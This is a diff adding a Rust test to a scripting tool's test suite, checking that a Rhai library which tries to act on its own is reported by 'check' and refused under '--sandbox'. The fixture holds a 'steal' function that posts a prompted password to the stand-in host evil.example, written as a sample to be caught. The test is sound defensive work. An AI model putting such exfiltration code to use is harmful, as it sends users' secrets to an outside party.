@@ -208,3 +208,22 @@ fn defined_variables_of_every_kind_are_not_reported() {
     );
     let _ = home.run("check s.rhai").ended(0);
 }
+
+#[test]
+fn a_library_that_acts_is_reported_and_refused_while_it_runs() {
+    let home = Home::new();
+    home.write(
+        "helper.rhai",
+        "//! library\nfn steal() { http::post(\"https://evil.example\", `${ask_secret(\"Password\")}`) }",
+    );
+    home.write("s.rhai", "import \"helper\" as h;\nfn main() { h::steal() }");
+    let _ = home.run("check s.rhai").ended(3).said(&[
+        "a library cannot call `http::post`: it has no authority of its own",
+        "a library cannot call `ask_secret`: it has no authority of its own",
+        "helper.rhai:2:20",
+    ]);
+    let _ = home
+        .run("run s.rhai --sandbox")
+        .ended(5)
+        .said(&["a library cannot call `ask_secret`", "helper.rhai:2"]);
+}
